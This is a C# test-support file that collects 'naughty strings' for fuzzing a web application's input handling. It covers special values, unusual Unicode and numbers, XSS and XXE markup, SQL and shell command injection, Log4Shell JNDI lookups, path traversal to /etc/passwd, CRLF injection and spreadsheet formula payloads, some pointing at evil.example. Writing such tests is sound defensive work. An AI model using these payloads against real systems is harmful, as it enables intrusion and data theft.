namespace NatoInternships.TestSupport.Text;

/// <summary>
/// Texts that have broken programs, written after the topics of public lists: pasted text, the world's scripts, and text of attackers.
/// Everything beyond ASCII is escaped, so that it is visible in the source.
/// </summary>
public static class NaughtyText
{
    /// <summary>Words that programs treat as special values.</summary>
    public static IReadOnlyList<string> Words { get; } =
    [
        "undefined", "null", "NULL", "(null)", "nil", "NaN", "Infinity", "-Infinity", "true", "FALSE", "None", "hasOwnProperty", "constructor", "__proto__",
        "\\", "\\\\", "\\0", "[object Object]", "ArrayIndexOutOfRangeException", "CON", "nul", "COM1", "LPT1.pdf", "aux", "Scunthorpe General Hospital", "Null Jennifer", "Input.Revision",
    ];

    /// <summary>Numbers, dates and digits of other scripts.</summary>
    public static IReadOnlyList<string> Numbers { get; } =
    [
        "0", "-1", "1.00", "$1.00", "1/2", "1E+02", "-9223372036854775808", "99999999999999999999999999", "0x7fffffff", "1,000.00", "1 000,00", "1'000.00", "0..0", "-0", "+1", "08", "1e309", "1#INF", "--1",
        "2001-02-30", "31/12/9999", "00:00:60",
        "\u0661\u0662\u0663", "\uFF11\uFF12\uFF13", "\u00BD\u00BC", "\u2460", "\u0E51", "\u2075", "\u2155",
    ];

    /// <summary>Characters that look different, move or are invisible.</summary>
    public static IReadOnlyList<string> Characters { get; } =
    [
        ",./;'[]-=<>?:\"{}|_+!@#$%^&*()`~",
        "\uFEFFafter a byte order mark", "\uFFFEswapped mark", "\uFFFFnot a character", "\uFDD0nor this", "a\u200Bb\u200Cc\u200Dd\u2060e", "soft\u00ADhyphen",
        "\u00A0no-break\u202Fspaces\u2007", "\u2000\u2003\u200A\u3000", "line\u2028separator\u2029paragraph", "next\u0085line", "a\tb", "form\u000Cfeed", "back\bspace", "bell\a", "escape\u001B[31mred", "delete\u007F", "nothing\u0000here",
        "\u2070\u2074\u2075 \u2080\u2081\u2082", "\u03A9\u2248\u00E7\u221A\u222B\u02DC\u00B5\u2264\u2265\u00F7", "\u00E5\u00DF\u2202\u0192\u00A9\u02D9\u2206\u02DA\u00AC\u2026\u00E6",
        "\u0401\u0402\u0403\u0404 \u0410\u0411\u0412", "\u7530\u4E2D\u3055\u3093", "\uC0AC\uD68C\uACFC\uD559\uC6D0", "\u793E\u6703\u79D1\u5B78\u9662", "\u0E3A\u0E4A\u0E48\u0E57", "\u1680ogham\u1680", "\u16A6\u16D6\u16E2",
        "\u0130stanbul \u0131\u015F\u0131k", "\u00DFtra\u1E9Ee STRASSE", "\uFB01ne \uFB04uent \u0149", "\u01C4 \u01C5 \u01C6", "\u1E9B\u0323", "A\u030A \u00C5 \u212B", "\u2126 \u00B5 \u212A",
        "\u0627\u0644\u0643\u0644 \u0641\u064A \u0627\u0644\u0645\u062C\u0645\u0648\u0639\u0629", "\u05D1\u05B0\u05BC\u05E8\u05B5\u05D0\u05E9\u05C1\u05B4\u05D9\u05EA", "\u202Etxt.fdp\u202C", "a\u202Ab\u202Bc\u202Dd\u2066e\u2067f\u2069", "\u200Fright\u200Eleft",
        "Z\u0351\u036B\u0343a\u030B\u0307l\u0338\u0332g\u0330\u0331o\u0315" + "", "\u0300alone", "e\u0301e\u0308\u0301", "o\u0302\u0323 vs \u1ED9",
        "\U0001F600\U0001F4A9", "\U0001F468\u200D\U0001F469\u200D\U0001F467\u200D\U0001F466", "\U0001F3F4\U000E0067\U000E0062\U000E0065\U000E006E\U000E0067\U000E007F", "\U0001F1E7\U0001F1EA\U0001F1EB\U0001F1F7", "\U0001F44D\U0001F3FF", "\u2764\uFE0F", "1\uFE0F\u20E3",
        "half\uD800", "\uDC00half", "\uDC00\uD800reversed", "\U0010FFFF", "\uE000\U000F0000 private", "\U0002070E \U00020731 \U00020779", "\U0001D4D3\U0001D4F8\U0001D4F0",
        "\u0C1C\u0C4D\u0C1E\u200C\u0C3E", "\u0963 \u0963h \u0963 \u0963 \u5197", "\u0633\u0645\u064E\u0651\u0648\u064F\u0648\u064F\u062D\u062E", "\u00A1\u0287os\u0131d\u026F\u018E", "\u0430\u0440\u0440\u04CF\u0435.com", "\u1D5A\u02B3\u1D49",
        "(\u256F\u00B0\u25A1\u00B0)\u256F\uFE35 \u253B\u2501\u253B", "\uFF5F\uFF5E\uFF5E\uFFE5", "\uFDFD", "\u2026\u2013\u2014\u2018\u2019\u201C\u201D\u201E\u00AB\u00BB", "first\r\nsecond\rthird\nfourth", "\nbegins with a line", "ends with one\n\n",
        "  spaces at both ends  ", "many     spaces\t\ttabs",
    ];

    /// <summary>Texts that a page, feed, file or mail would interpret if it did not encode them.</summary>
    public static IReadOnlyList<string> Markup { get; } =
    [
        "<script>alert(1)</script>", "</script><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</title><svg/onload=alert(1)>", "\"><img src=x onerror=alert(1)>", "' autofocus onfocus=alert(1) x='",
        "\" autofocus onfocus=alert(1) x=\"", "<img src=\"javascript:alert(1)\">", "<a href=\"\\x0Bjavascript:alert(1)\">x</a>", "<ScRiPt\n>alert(1)</sCrIpT>", "<<script>alert(1);//<</script>", "<iframe srcdoc=\"<script>alert(1)</script>\">",
        "<style>*{display:none}</style>", "<plaintext>", "<!--", "--><script>alert(1)</script>", "<![CDATA[", "]]><script>alert(1)</script>", "<base href=//evil.example>", "<meta http-equiv=refresh content=0;url=//evil.example>",
        "<form action=//evil.example><input name=x>", "<math><mtext></mtext><mglyph><style></math><img src onerror=alert(1)>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;&#60;&#x3c;&quot;&NotEqualTilde;", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
        "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E", "<script\u0001>alert(1)</script>", "<\u200Bscript>alert(1)</script>", "<!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><x>&xxe;</x>", "<?xml version=\"1.0\"?><x/>", "<xsl:value-of select=\"1\"/>",
    ];

    /// <summary>Texts that another interpreter would run.</summary>
    public static IReadOnlyList<string> Code { get; } =
    [
        "1;DROP TABLE users", "1'; DROP TABLE Applications-- 1", "' OR 1=1 -- 1", "' OR '1'='1", "\" OR \"\"=\"", "%", "_", "%_[a-z]%", "'; EXEC xp_cmdshell('dir'); --", "a') UNION SELECT 1--", "q\"*", "NEAR(a b)", "a AND OR NOT", "a:*", "'''", "*", "-a", "^a",
        "-", "--version", "--help", "$USER", "/dev/null; touch /tmp/blns.fail ; echo", "`touch /tmp/blns.fail`", "$(touch /tmp/blns.fail)", "@{[system \"touch /tmp/blns.fail\"]}", "eval(\"puts 'hello'\")", "System(\"ls -al /\")",
        "%d%s%x%n", "%s%s%s%s%s", "{0}{1}{2}", "{", "}", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "@(7*7)", "@Html.Raw(\"x\")", "@Model.Input", "${jndi:ldap://evil.example/a}", "{{constructor.constructor('alert(1)')()}}",
        "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd%00.pdf", "file:///etc/passwd", "C:\\boot.ini", "\\\\evil.example\\share", "%2e%2e%2f", "..;/", "http://169.254.169.254/latest", "//evil.example", "/en/vacancies?q=\u00E9\u4E2D", "/fr/\u00E9", "/\\evil.example", "https:evil.example",
        "%00", "%0d%0aSet-Cookie: a=b", "a\r\nBcc: everybody@evil.example", "a\r\n.\r\nQUIT", "a\nSUMMARY:evil\nEND:VEVENT", "%ff", "%c0%ae", "%u0000", "+", "a+b c", "&x=1", "=1+1", "@SUM(1)", "+cmd|' /C calc'!A0", "a;b,c\\n:d",
        "() { 0; }; touch /tmp/blns.fail", "If you're reading this, you've been in a coma", "Roses are \u001B[0;31mred\u001B[0m", "But now...\u001B[20Cfor my greatest trick...\u001B[8m", "+++ATH0", "{\"$gt\":\"\"}", "[]", "\"a\":1}", "\u0022\u0027`",
    ];

    /// <summary>All texts, the oversized one last.</summary>
    public static IReadOnlyList<string> All { get; } =
    [
        " ", "\n", "\u00A0", "\u200B", .. Words, .. Numbers, .. Characters, .. Markup, .. Code,
        new string('x', 300), new string('\u00E9', 2_100), string.Concat(Enumerable.Repeat("\U0001F600", 1_000)), "a" + new string('\u0301', 500), string.Join(' ', Enumerable.Repeat("word", 2_600)), new string('<', 5_000),
    ];

    /// <summary>Sent unchanged inside a form or URL. They are not valid text.</summary>
    public static IReadOnlyList<string> PercentEncoded { get; } =
        ["%00", "%FF", "%FE%FF", "%C0%80", "%C0%AE%C0%AE", "%ED%A0%80", "%ED%A0%BD%ED%B2%A9", "%F4%90%80%80", "%F8%88%80%80%80", "%80", "%E2%82", "%", "%%", "%2", "%zz", "%u0041", "%250a", "%0d%0a%0d%0a", "%5c", "%2e%2e", "%2f..%2f", "%3Cscript%3E"];
}
